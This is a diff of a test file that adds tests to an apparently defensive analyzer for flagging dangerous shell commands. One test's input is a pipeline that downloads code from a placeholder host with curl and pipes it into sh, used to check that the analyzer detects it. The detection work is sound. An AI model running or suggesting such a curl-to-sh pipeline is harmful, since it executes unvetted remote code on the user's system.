@@ -169,3 +169,19 @@ def test_pathological_nesting_is_refused_not_crashed() -> None:
     verdict = analyze("$(" * 2000 + "true" + ")" * 2000)
     assert verdict.level == "dangerous"
     assert "nested too deeply" in verdict.reasons[0]
+
+
+def test_a_command_over_the_cap_is_refused_with_a_clear_verdict() -> None:
+    verdict = analyze("|".join(["a"] * 50_000))  # 100 KB; took 57 s of CPU before the cap
+    assert verdict.level == "dangerous"
+    assert verdict.reasons == [
+        "too long to analyse (99999 characters), so it is treated as dangerous"
+    ]
+
+
+def test_a_long_pipeline_under_the_cap_is_still_followed_to_its_end() -> None:
+    # Downloaded code reaches sh through 3,000 filters; bashlex is not used at this length.
+    command = "curl -s https://x " + "| cat " * 3000 + "| sh"
+    verdict = analyze(command)
+    assert verdict.level == "dangerous"
+    assert "pipes code downloaded by curl into sh" in verdict.reasons
